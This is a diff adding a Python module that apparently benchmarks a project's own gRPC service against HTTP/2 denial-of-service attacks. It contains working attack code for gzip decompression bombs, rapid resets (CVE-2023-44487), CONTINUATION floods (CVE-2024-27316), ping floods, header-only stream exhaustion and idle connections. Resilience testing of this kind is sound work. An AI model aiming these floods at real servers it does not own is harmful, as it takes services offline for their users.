@@ -1,0 +1,155 @@
+"""Attacks by whoever can connect: no token is needed, and what is sent is hardly a call."""
+
+import asyncio
+import gzip
+import time
+from collections import Counter
+from collections.abc import Awaitable, Callable
+from contextlib import AsyncExitStack, suppress
+
+from hyperframe.frame import ContinuationFrame, HeadersFrame
+
+from benchmarks.attacks.raw_http2 import COMPRESSED, RawConnection, message_prefix, open_streams, raw_connection
+from benchmarks.attacks.target import PUBLIC, Target, Told, path_of
+
+MIB = 1 << 20
+LARGE = 31 * MIB
+HOLD_S = 5.0
+ANSWER_S = 8.0
+
+
+async def on_all(target: Target, work: Callable[[RawConnection, str], Awaitable[None]], copies: int = 1) -> Told:
+    """The same work on `copies` connections to every process, the public port included, at once; an RPC of its path."""
+
+    async def one(process: str, address: str) -> Told:
+        try:
+            async with raw_connection(target, address) as connection:
+                await work(connection, path_of(target.methods(process)[0]))
+        except (OSError, TimeoutError) as error:
+            return Counter([type(error).__name__])
+        return connection.told
+
+    found = await asyncio.gather(*(one(*item) for item in target.addresses.items() for _ in range(copies)))
+    return sum(found, Counter())
+
+
+async def gzip_bombs(target: Target) -> Told:
+    """16 messages of 32 KB that grow to 31 MiB, at every port."""
+    bomb = gzip.compress(bytes(LARGE))
+    body = message_prefix(len(bomb), COMPRESSED) + bomb
+
+    async def throw(connection: RawConnection, path: str) -> None:
+        for _ in range(8):
+            stream = await connection.headers(path, extra=(("grpc-encoding", "gzip"),))
+            await connection.data(stream, body, end=True)
+        await connection.all_answered(ANSWER_S)
+
+    return await on_all(target, throw, copies=2)
+
+
+async def gzip_bombs_with_a_token(target: Target) -> Told:
+    """The same by a user of the public API, who could do more than be refused."""
+    bomb = gzip.compress(bytes(LARGE))
+    body = message_prefix(len(bomb), COMPRESSED) + bomb
+    path = path_of(target.methods(PUBLIC)[0])
+    async with raw_connection(target, target.public) as connection:
+        for _ in range(16):
+            stream = await connection.headers(path, target.tokens["user"], (("grpc-encoding", "gzip"),))
+            await connection.data(stream, body, end=True)
+        await connection.all_answered(ANSWER_S)
+    return connection.told
+
+
+async def unfinished_messages(target: Target) -> Told:
+    """24 streams at every port that announce 31 MiB and stop one byte before; as much as gets there in time."""
+    body = memoryview(message_prefix(LARGE) + bytes(LARGE - 1))
+
+    async def hold(connection: RawConnection, path: str) -> None:
+        streams = [await connection.headers(path) for _ in range(6)]
+        with suppress(TimeoutError):
+            async with asyncio.timeout(ANSWER_S):
+                for start in range(0, len(body), MIB):
+                    for stream in streams:
+                        await connection.data(stream, bytes(body[start : start + MIB]), end=False)
+        await connection.all_answered(HOLD_S)
+
+    return await on_all(target, hold, copies=4)
+
+
+async def header_only_streams(target: Target) -> Told:
+    """Streams that have headers and no message, as many as a connection takes, four connections a port."""
+
+    async def hold(connection: RawConnection, path: str) -> None:
+        for _ in range(500):
+            await connection.headers(path)
+        await connection.all_answered(HOLD_S)
+
+    return await on_all(target, hold, copies=4)
+
+
+async def rapid_resets(target: Target) -> Told:
+    """Streams that are opened and reset at once, for six seconds (CVE-2023-44487)."""
+
+    async def reset(connection: RawConnection, path: str) -> None:
+        end, sent = time.monotonic() + 6.0, 0
+        while time.monotonic() < end:
+            await connection.reset(await connection.headers(path))
+            sent += 1
+            await asyncio.sleep(0)
+        connection.told["RESETS SENT"] += sent
+
+    return await on_all(target, reset)
+
+
+async def huge_metadata(target: Target) -> Told:
+    """Calls with a quarter of a megabyte of metadata."""
+    extra = tuple((f"x-{number}", "a" * 4096) for number in range(64))
+
+    async def send(connection: RawConnection, path: str) -> None:
+        for _ in range(40):
+            await connection.headers(path, extra=extra)
+        await connection.all_answered(ANSWER_S)
+
+    return await on_all(target, send)
+
+
+async def endless_headers(target: Target) -> Told:
+    """Headers that are continued and never end, 32 MB of them (CVE-2024-27316)."""
+    field = b"\x40\x01a\x7f\xfb\x7e" + b"b" * 16_378  # A literal header that fills a frame.
+
+    async def flood(connection: RawConnection, path: str) -> None:
+        await connection.raw(HeadersFrame(1, field).serialize())
+        for _ in range(2000):
+            await connection.raw(ContinuationFrame(1, field).serialize())
+        await connection.all_answered(1.0)
+
+    return await on_all(target, flood)
+
+
+async def ping_flood(target: Target) -> Told:
+    """10,000 pings a connection."""
+
+    async def ping(connection: RawConnection, path: str) -> None:
+        for _ in range(10_000):
+            await connection.ping()
+
+    return await on_all(target, ping)
+
+
+async def silent_connections(target: Target) -> Told:
+    """200 connections to the public port that say nothing, and as many that say half of a greeting."""
+    told: Told = Counter()
+    plain = Target(target.addresses, target.tokens, "", target.folder)
+    async with AsyncExitStack() as stack:
+        for number in range(400):
+            try:
+                _, writer = await open_streams(plain, target.public)
+            except OSError as error:
+                told[type(error).__name__] += 1
+                continue
+            stack.callback(writer.close)
+            if number % 2:
+                writer.write(b"PRI * HTTP/2.0\r\n")
+            told["CONNECTED"] += 1
+        await asyncio.sleep(HOLD_S)
+    return told
